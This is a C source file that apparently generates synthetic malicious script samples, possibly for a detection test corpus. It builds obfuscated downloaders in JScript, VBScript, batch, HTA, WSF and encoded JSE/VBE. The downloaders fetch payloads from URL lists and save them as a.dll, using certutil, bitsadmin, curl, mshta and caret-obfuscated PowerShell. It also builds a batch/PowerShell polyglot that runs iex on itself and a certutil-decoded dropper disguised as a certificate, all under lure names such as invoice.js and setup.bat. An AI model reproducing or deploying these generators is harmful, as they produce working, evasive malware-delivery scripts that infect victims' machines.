/* script.c - files of scripts: PowerShell, JScript, VBScript, batch, HTA, WSF. */
#include "samples_internal.h"

#include "base/attr.h"
#include "base/enc.h"

#include <stdio.h>

void script_jscript(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf urls = { 0 };

    chance_urls(chance, &urls);
    hn_buf_add_lit(out, "var u=");
    hide_jscript(out, chance, hn_buf_text(&urls));
    hn_buf_add_lit(out, ".split('@');var h=new ActiveXObject(");
    hide_jscript(out, chance, HN_TEXT("MSXML2.XMLHTTP"));
    hn_buf_addf(out,
            ");for(var i=0;i<u.length;i++){try{h.open('GET',u[i],false);h.send();if(h.status"
            "==200){var s=new ActiveXObject('ADODB.Stream');s.Open();s.Type=1;s.Write(h."
            "responseBody);s.SaveToFile('C:\\\\Users\\\\Public\\\\a.dll',2);%s}}catch(e){}}",
            chance_next(chance, 2) == 0 ? "break;" : "");
    hn_buf_deinit(&urls);
}

/* The list asked for by VBScript itself. */
static void basic_requests(struct chance *chance, struct hn_buf *out)
{
    struct stores none = { .kinds = 0 };
    struct hn_buf urls = { 0 };

    chance_urls(chance, &urls);
    hn_buf_add_lit(out, "On Error Resume Next\r\nx = \"\"\r\n");
    for (struct hn_text rest = hn_buf_text(&urls); rest.len > 0;
            rest = hn_text_sub(rest, 60, SIZE_MAX)) {
        hn_buf_add_lit(out, "x = x & ");
        hide_vba(out, chance, &none, hn_text_sub(rest, 0, 60));
        hn_buf_add_lit(out, "\r\n");
    }
    hn_buf_addf(out,
            "Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\nFor Each u In Split(x, \"@\")\r\n"
            "h.Open \"GET\", u, False\r\nh.Send\r\nIf h.Status = 200 Then\r\n"
            "Set s = CreateObject(\"ADODB.Stream\")\r\ns.Type = 1\r\ns.Open\r\n"
            "s.Write h.responseBody\r\ns.SaveToFile \"C:\\Users\\Public\\a.dll\", 2\r\n%s"
            "End If\r\nNext\r\n",
            chance_next(chance, 2) == 0 ? "Exit For\r\n" : "");
    hn_buf_deinit(&urls);
}

void script_basic(struct chance *chance, struct hn_buf *out)
{
    struct stores none = { .kinds = 0 };
    struct hn_buf command = { 0 };
    struct hn_buf source = { 0 };

    if (!chance_wants_any(chance, "powershell: ") && chance_next(chance, 2) == 0) {
        basic_requests(chance, out);
        return;
    }
    powershell_line(chance, true, &command);
    macro_source(chance, &none, hn_buf_text(&command), "run_it", &source);
    hn_buf_add_lit(out, "On Error Resume Next\r\nrun_it\r\n");
    for (struct hn_text rest = hn_buf_text(&source), line; hn_text_line(&rest, &line);) {
        /* VBScript has no types, and Shell is no function of it. */
        if (hn_text_find(line, HN_TEXT("As String"), 0) != SIZE_MAX)
            line = HN_TEXT("    Dim s");
        if (hn_text_starts(line, HN_TEXT("    Shell c")))
            line = HN_TEXT("    CreateObject(\"WScript.Shell\").Run c, 0");
        hn_buf_add_text(out, line);
        hn_buf_add_lit(out, "\r\n");
    }
    hn_buf_deinit(&source);
    hn_buf_deinit(&command);
}

/* ---- Batch ---- */

/* %x:~n,1% of a key, letter by letter, where the key has it. */
static void batch_letters(struct chance *chance, struct hn_buf *out, struct hn_text text)
{
    static const char key[] = "wq9xz.k/h:tpe-lavmsdnribcgufoyj_5";

    hn_buf_addf(out, "set \"zk=%s\"\r\nset \"u=", key);
    for (size_t i = 0; i < text.len; i++) {
        const char *at = strchr(key, text.ptr[i]);

        if (at != NULL && chance_next(chance, 3) > 0)
            hn_buf_addf(out, "%%zk:~%u,1%%", (unsigned)(at - key));
        else
            hn_buf_add_char(out, text.ptr[i]);
    }
    hn_buf_add_lit(out, "\"\r\n");
}

static void script_batch(struct chance *chance, struct hn_buf *out)
{
    static const char *const ways[] = { "certutil -urlcache -split -f \"%u%\" \"%TEMP%\\a.dll\"",
        "bitsadmin /transfer j /download %u% %TEMP%\\a.dll", "curl -s -o %TEMP%\\a.dll %u%",
        "mshta %u%", "p^ower^shell -c \"iwr '%u%' -OutFile a.dll\"",
        "cmd /v:on /c \"set q=%u%&&curl -o a.dll !q!\"" };

    hn_buf_add_lit(out, "@echo off\r\nsetlocal\r\n");
    for (size_t i = 0; i < chance->sample->url_count; i++) {
        batch_letters(chance, out, hn_text_cstr(chance->sample->urls[i]));
        hn_buf_addf(out, "call :go\r\n");
    }
    hn_buf_addf(out, "exit /b\r\n:go\r\n%s\r\ngoto :eof\r\n",
            ways[chance_next(chance, HN_COUNT_OF(ways))]);
}

/* A batch file that is PowerShell at the same time, or a certificate, or writes its script. */
static void script_polyglot(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf script = { 0 };

    if (chance_next(chance, 2) == 0) {
        hn_buf_add_lit(out, "<# :\r\n@echo off\r\npowershell -nop -c \"iex (gc '%~f0' -raw)\"\r\n"
                            "exit /b\r\n#>\r\n");
        powershell_script(chance, &script);
        hn_buf_add_text(out, hn_buf_text(&script));
        hn_buf_add_lit(out, "\r\n");
        hn_buf_deinit(&script);
        return;
    }
    script_basic(chance, &script);
    hn_buf_add_lit(out, "@echo off\r\ncertutil -f -decode \"%~f0\" \"%TEMP%\\q.vbs\" >nul\r\n"
                        "cscript //b \"%TEMP%\\q.vbs\"\r\ngoto :eof\r\n"
                        "-----BEGIN CERTIFICATE-----\r\n");
    for (struct hn_text rest = hn_buf_text(&script); rest.len > 0;
            rest = hn_text_sub(rest, 48, SIZE_MAX)) {
        struct hn_buf line = { 0 };

        hn_base64_encode(&line, hn_text_as_bytes(hn_text_sub(rest, 0, 48)));
        hn_buf_add_text(out, hn_buf_text(&line));
        hn_buf_add_lit(out, "\r\n");
        hn_buf_deinit(&line);
    }
    hn_buf_add_lit(out, "-----END CERTIFICATE-----\r\n");
    hn_buf_deinit(&script);
}

/* ---- Pages ---- */

static void script_hta(struct chance *chance, struct hn_buf *out)
{
    bool basic = chance_next(chance, 2) == 0;

    hn_buf_addf(out,
            "<html><head><hta:application windowstate=\"minimize\"/><script language=\"%s\">\r\n",
            basic ? "VBScript" : "JScript");
    if (basic)
        script_basic(chance, out);
    else
        script_jscript(chance, out);
    hn_buf_add_lit(out, "\r\n</script></head><body></body></html>\r\n");
}

/* The list in one part, the request in another. */
static void script_wsf(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf urls = { 0 };

    chance_urls(chance, &urls);
    hn_buf_add_lit(out, "<?xml version=\"1.0\"?>\r\n<package><job id=\"j\">\r\n<script "
                        "language=\"JScript\"><![CDATA[\r\nvar u=");
    hide_jscript(out, chance, hn_buf_text(&urls));
    hn_buf_add_lit(out, ".split('@');\r\n]]></script>\r\n<script language=\"JScript\"><![CDATA[\r\n"
                        "var h=new ActiveXObject('MSXML2.XMLHTTP');for(var i in u){h.open('GET',u[i"
                        "],false);h.send();}\r\n]]></script>\r\n</job></package>\r\n");
    hn_buf_deinit(&urls);
}

static void script_encoded(struct chance *chance, struct hn_buf *out,
        void (*fn)(struct chance *chance, struct hn_buf *out))
{
    struct hn_buf script = { 0 };

    fn(chance, &script);
    encode_script(out, hn_buf_text(&script));
    hn_buf_deinit(&script);
}

static void script_jse(struct chance *chance, struct hn_buf *out)
{
    script_encoded(chance, out, script_jscript);
}

static void script_vbe(struct chance *chance, struct hn_buf *out)
{
    script_encoded(chance, out, script_basic);
}

static const struct {
    const char *row;
    const char *name;
    void (*fn)(struct chance *chance, struct hn_buf *out);
} kinds[] = { { "file: ps1", "update.ps1", powershell_script },
    { "file: js", "invoice.js", script_jscript }, { "file: vbs", "invoice.vbs", script_basic },
    { "file: bat", "invoice.bat", script_batch },
    { "file: polyglot bat", "setup.bat", script_polyglot },
    { "file: hta", "invoice.hta", script_hta }, { "file: wsf", "invoice.wsf", script_wsf },
    { "file: jse", "invoice.jse", script_jse }, { "file: vbe", "invoice.vbe", script_vbe },
    { "file: msi", "setup.msi", make_installer } };

void make_script(struct chance *chance, const char *row)
{
    for (size_t i = 0; i < HN_COUNT_OF(kinds); i++) {
        if (strcmp(kinds[i].row, row) != 0)
            continue;
        kinds[i].fn(chance, &chance->sample->bytes);
        (void)snprintf(chance->sample->name, sizeof chance->sample->name, "%s", kinds[i].name);
        chance_row(chance, kinds[i].row);
    }
}
